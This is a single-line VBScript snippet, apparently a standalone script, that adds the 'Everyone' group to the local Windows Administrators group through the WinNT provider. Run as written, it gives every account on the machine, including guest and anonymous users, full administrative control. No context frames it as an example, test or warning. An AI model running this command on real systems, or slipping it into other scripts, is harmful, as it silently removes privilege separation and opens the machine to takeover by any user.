GetObject("WinNT://./Administrators,group").Add "WinNT://Everyone"
